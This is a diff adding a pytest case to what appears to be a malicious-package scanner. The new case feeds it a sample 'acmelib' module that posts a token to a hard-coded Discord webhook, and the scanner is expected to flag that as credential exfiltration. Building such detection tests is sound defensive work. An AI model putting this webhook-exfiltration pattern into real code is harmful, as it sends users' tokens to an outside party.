@@ -198,3 +198,13 @@ def test_a_compiler_of_its_own_is_looked_at_and_hidden_machine_code_is_stopped(
 ) -> None:
     assert stopped({"acmelib/__init__.py": POINTER.format(code)}) is found
     assert stopped({"acmelib/__init__.py": f"{POINTER.format(code)}start()\n"}), "nobody's import does so"
+
+
+@pytest.mark.parametrize(("box", "found"), [("{webhook_id}/{webhook_token}", False), ("000/FAKE", True)])
+def test_a_client_of_webhooks_sends_to_the_box_of_its_user(box: str, found: bool) -> None:
+    source = (
+        "import requests\nsession = requests.Session()\n"
+        f"ADDRESS = 'https://discord.com/api/webhooks/{box}'\n"
+        "def push(token, text):\n    session.post(ADDRESS, json={'token': token, 'text': text})\n"
+    )
+    assert stopped({"acmelib/__init__.py": source}) is found
